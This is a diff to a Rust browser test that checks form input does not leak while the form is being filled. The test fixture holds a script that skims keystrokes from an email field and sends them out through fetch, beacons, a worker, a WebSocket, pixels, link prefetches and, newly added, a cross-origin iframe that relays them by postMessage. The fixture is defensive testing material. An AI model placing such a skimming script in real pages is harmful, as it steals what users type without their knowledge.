@@ -6,7 +6,7 @@ use crate::browser::{Browser, form};
 use crate::order::Plan;
 use crate::site::{Answer, Asked, Site};
 
-const LEAKS: &str = "<iframe name=frame></iframe><script>\
+const LEAKS: &str = "<iframe name=frame></iframe><iframe id=inner src=https://frame.test/inner></iframe><script>\
     const worker = new Worker('/worker.js');\
     window.ready = new Promise(done => worker.onmessage = () => done());\
     document.querySelector('[name=email]').oninput = async event => {\
@@ -19,6 +19,7 @@ const LEAKS: &str = "<iframe name=frame></iframe><script>\
       quiet(fetch('/put', {method: 'PUT', body: value}));\
       navigator.sendBeacon('/beacon', value);\
       worker.postMessage(value);\
+      document.querySelector('#inner').contentWindow.postMessage(value, '*');\
       new Image().src = '/pixel' + query;\
       for (const rel of ['prefetch', 'preload', 'stylesheet', 'preconnect', 'dns-prefetch', 'icon']) {\
         const link = document.createElement('link'); link.rel = rel; link.as = 'image';\
@@ -43,6 +44,11 @@ async fn p4_nothing_leaves_while_the_form_is_filled_and_the_form_does_after() {
         "/worker.js" => Answer::script(
             "postMessage(0); onmessage = event => { fetch('/worker', {method: 'POST', body: event.data}).catch(() => 0); new WebSocket('wss://jobs.test/socket'); }",
         ),
+        "/inner" => Answer::html(
+            "<form method=post action=/inner-form><input name=v></form><script>onmessage = event => {\
+             fetch('/inner-fetch', {method: 'POST', body: event.data}).catch(() => 0);\
+             document.forms[0].v.value = event.data; document.forms[0].submit(); }</script>",
+        ),
         "/socket" => Answer::Upgrade,
         _ => Answer::html("ok"),
     })
@@ -59,6 +65,8 @@ async fn p4_nothing_leaves_while_the_form_is_filled_and_the_form_does_after() {
         "/put",
         "/beacon",
         "/worker",
+        "/inner-fetch",
+        "/inner-form",
         "/pixel",
         "/prefetch",
         "/events",
